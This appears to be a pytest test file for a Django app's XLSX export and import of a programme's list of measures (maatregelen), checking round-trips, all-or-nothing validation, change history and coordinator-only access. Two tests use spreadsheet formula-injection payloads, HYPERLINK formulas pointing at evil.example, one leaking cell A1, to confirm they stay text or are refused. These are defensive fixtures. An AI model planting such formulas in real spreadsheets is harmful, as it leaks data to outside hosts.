"""The maatregelen list as XLSX and back: an update by number, formula-safe, all or nothing."""

import io

import pytest
from django.urls import reverse
from openpyxl import Workbook, load_workbook

from programma.models import Maatregel, Programmagebeurtenis

HEADERS = ["Nummer", "Actielijn", "Titel", "Partners", "Status", "Verantwoordelijke directie"]


def xlsx(rows, headers=HEADERS) -> bytes:
    workbook = Workbook()
    sheet = workbook.active
    sheet.append(headers)
    for row in rows:
        sheet.append(row)
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def upload(client, programma, inhoud: bytes, name="maatregelen.xlsx"):
    bestand = io.BytesIO(inhoud)
    bestand.name = name
    return client.post(reverse("maatregelen_import", args=[programma.pk]), {"bestand": bestand})


def state():
    return list(
        Maatregel.objects.order_by("nummer").values_list("nummer", "titel", "partners", "status")
    )


@pytest.fixture
def coordinator(client, people):
    client.force_login(people["afdelingshoofd"])
    return client


def test_the_export_lists_every_maatregel_and_a_formula_stays_text(client, people, programma):
    Maatregel.objects.filter(nummer=2).update(
        titel='=HYPERLINK("http://evil.example/?"&A1,"Klik")', status="afgerond"
    )
    client.force_login(people["opsteller"])
    response = client.get(reverse("maatregelen_xlsx", args=[programma.pk]))
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:5] == ("Nummer", "Actielijn", "Titel", "Partners", "Status")
    assert [r[0] for r in rows[1:]] == [1, 2]
    assert rows[2][4] == "Afgerond"
    hostile = sheet.cell(row=3, column=3)
    assert hostile.data_type == "s"  # a string cell: never evaluated
    assert hostile.value.startswith("=HYPERLINK")


def test_the_export_read_back_unchanged_changes_nothing(coordinator, programma):
    exported = coordinator.get(reverse("maatregelen_xlsx", args=[programma.pk])).content
    before = state()
    response = upload(coordinator, programma, exported)
    assert response.status_code == 302
    assert state() == before
    assert not Programmagebeurtenis.objects.filter(actie="maatregel_gewijzigd").exists()


def test_an_import_updates_by_number_through_the_service_with_history(
    coordinator, programma, people
):
    response = upload(
        coordinator,
        programma,
        xlsx(
            [
                [2, "", "Maatregel twee, scherper", "GGD GHOR", "In uitvoering"],
                [1, "", "Maatregel 1", "", "afgerond"],
            ]
        ),
    )
    assert response.status_code == 302
    assert state() == [
        (1, "Maatregel 1", "", "afgerond"),
        (2, "Maatregel twee, scherper", "GGD GHOR", "in_uitvoering"),
    ]
    events = Programmagebeurtenis.objects.filter(actie="maatregel_gewijzigd").order_by("pk")
    assert [e.opmerking for e in events] == [
        "Maatregel 2: titel gewijzigd; partners gewijzigd; status niet vastgelegd → In uitvoering."
        " (XLSX-import)",
        "Maatregel 1: status niet vastgelegd → Afgerond. (XLSX-import)",
    ]
    assert {e.actor for e in events} == {people["afdelingshoofd"]}
    page = coordinator.get(response["Location"])
    assert "2 maatregel(en) gewijzigd, 0 ongewijzigd" in page.content.decode()


def test_a_partly_bad_file_changes_nothing_and_says_why_per_row(coordinator, programma):
    before = state()
    response = upload(
        coordinator,
        programma,
        xlsx(
            [
                [1, "", "Een goede wijziging", "", "Afgerond"],
                [31, "", "Bestaat niet", "", "Afgerond"],
                [2, "", "Maatregel 2", "", "Bijna klaar"],
                ["", "", "Zonder nummer", "", ""],
                [1, "", "Nog eens 1", "", ""],
            ]
        ),
    )
    assert response.status_code == 200  # the page again, with the reasons
    html = response.content.decode()
    assert "Er is een probleem" in html
    assert "Rij 3: dit programma heeft geen maatregel 31." in html
    assert (
        "Rij 4: de status “Bijna klaar” is niet een van: Start binnenkort, In uitvoering, Afgerond."
        in html
    )
    assert "Rij 5: geen maatregelnummer." in html
    assert "Rij 6: maatregel 1 staat ook in rij 2." in html
    assert "er is niets gewijzigd" in html
    assert state() == before  # not even row 2's good change
    assert not Programmagebeurtenis.objects.filter(actie="maatregel_gewijzigd").exists()


def test_a_formula_in_the_upload_is_refused_not_copied(coordinator, programma):
    before = state()
    response = upload(
        coordinator,
        programma,
        xlsx([[1, "", '=HYPERLINK("http://evil.example/","Klik hier")', "", "Afgerond"]]),
    )
    assert response.status_code == 200  # the page again, with the reasons
    assert (
        "Rij 2: de kolom Titel bevat een formule; typ de tekst zelf." in response.content.decode()
    )
    assert state() == before


def test_a_file_that_is_no_workbook_or_misses_a_column_is_refused(coordinator, programma):
    before = state()
    response = upload(coordinator, programma, b"%PDF-1.7 not a workbook")
    assert response.status_code == 200  # the page again, with the reasons
    assert "geen Excel-bestand" in response.content.decode()
    response = upload(coordinator, programma, xlsx([[1, "x"]], headers=["Nummer", "Titel"]))
    assert response.status_code == 200  # the page again, with the reasons
    assert "ontbreekt: Partners, Status" in response.content.decode()
    assert state() == before


def test_only_the_coordinator_sees_the_form_and_may_import(client, people, programma):
    client.force_login(people["opsteller"])
    page = client.get(reverse("programma_detail", args=[programma.pk])).content.decode()
    assert reverse("maatregelen_xlsx", args=[programma.pk]) in page
    assert reverse("maatregelen_import", args=[programma.pk]) not in page
    before = state()
    response = upload(client, programma, xlsx([[1, "", "Gekaapt", "", "Afgerond"]]))
    assert response.status_code == 302
    assert state() == before
    page = client.get(response["Location"]).content.decode()
    assert "Alleen de coördinator van het programma" in page

    client.force_login(people["afdelingshoofd"])
    page = client.get(reverse("programma_detail", args=[programma.pk])).content.decode()
    assert reverse("maatregelen_import", args=[programma.pk]) in page
